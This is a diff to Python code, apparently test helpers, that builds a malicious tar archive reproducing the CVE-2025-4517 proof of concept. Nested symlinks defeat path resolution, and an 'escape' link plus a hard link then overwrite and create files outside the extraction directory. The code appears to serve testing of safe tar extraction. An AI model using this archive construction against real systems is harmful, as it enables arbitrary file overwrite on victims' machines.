@@ -89,18 +89,23 @@ def _link_then_dotdot(tar: tarfile.TarFile, outside: Path) -> None:
 
 
 def _cve_2025_4517(tar: tarfile.TarFile, outside: Path) -> None:
-    """The CVE's PoC: nested symlinks whose resolved path exceeds PATH_MAX, so realpath stops resolving."""
-    comp = "d" * 247
+    """The CVE's PoC (as CPython's own test builds it): nested symlinks whose resolved path exceeds PATH_MAX,
+    so realpath stops resolving; `escape` then points outside, a hard link through it reaches an outside
+    file, and a regular member of the same name overwrites it."""
+    dest = outside.parent / "work" / "restored"
     steps = "abcdefghijklmnop"
+    comp = "d" * ((os.pathconf("/", "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1))
     path = ""
     for step in steps:
         _add(tar, os.path.join(path, comp), tarfile.DIRTYPE)
         _add(tar, os.path.join(path, step), tarfile.SYMTYPE, link=comp)
         path = os.path.join(path, comp)
     linkpath = os.path.join(*steps, "l" * 254)
-    _add(tar, linkpath, tarfile.SYMTYPE, link="../" * len(steps))
-    _add(tar, "escape", tarfile.SYMTYPE, link=linkpath + "/.." * 3 + "/outside")
-    _add(tar, "escape/pwned", data=b"x")
+    _add(tar, linkpath, tarfile.SYMTYPE, link=os.path.join(*[".."] * len(steps)))
+    _add(tar, "escape", tarfile.SYMTYPE, link=linkpath + "/../../outside")
+    _add(tar, "flaglink", tarfile.LNKTYPE, link="escape/secret")
+    _add(tar, "flaglink", data=b"overwritten")
+    _add(tar, "escape/newfile", data=b"new")
 
 
 def _short_chain(tar: tarfile.TarFile, outside: Path) -> None:
